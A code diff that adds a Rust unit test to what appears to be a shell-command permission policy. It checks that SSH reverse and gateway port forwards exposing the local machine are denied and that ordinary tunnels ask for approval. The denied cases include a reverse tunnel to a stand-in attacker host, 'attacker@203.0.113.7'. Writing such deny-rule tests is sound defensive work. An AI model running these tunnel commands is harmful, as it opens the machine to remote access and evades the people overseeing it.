@@ -1802,6 +1802,28 @@ mod policy_gaps {
     }
 
     #[test]
+    fn ssh_forwards_that_expose_this_machine() {
+        assert_all(
+            &[
+                "ssh -R 2222:localhost:22 attacker@203.0.113.7 -N -f",
+                "ssh -R 0.0.0.0:8080:localhost:3000 host",
+                "ssh -g -L 0.0.0.0:2222:localhost:22 localhost -N",
+                "ssh -g -L 8080:localhost:80 host",
+            ],
+            Decision::Deny,
+        );
+        assert_all(
+            &[
+                "ssh -R 8080:localhost:3000 host",
+                "ssh -L 5432:localhost:5432 bastion",
+                "ssh -i ~/.ssh/k -L 5432:db:5432 bastion",
+                "ssh -D 1080 host",
+            ],
+            Decision::Ask,
+        );
+    }
+
+    #[test]
     fn cleaning_only_ignored_files_asks() {
         assert_all(
             &["git clean -fX", "git clean -fdX", "git clean -f -X"],
